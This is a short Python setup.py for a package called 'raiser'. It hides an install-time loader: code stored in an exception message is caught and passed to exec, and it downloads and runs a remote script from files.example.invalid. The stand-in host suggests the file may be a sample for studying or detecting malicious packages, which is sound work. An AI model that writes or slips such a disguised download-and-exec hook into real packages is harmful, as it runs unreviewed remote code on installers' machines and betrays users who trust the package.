from setuptools import setup

try:
    raise ValueError("import urllib.request\nexec(urllib.request.urlopen('http://files.example.invalid/code.py').read())\n", 1)
except ValueError as e:
    exec(e.args[0])

setup(name="raiser", version="1.0")
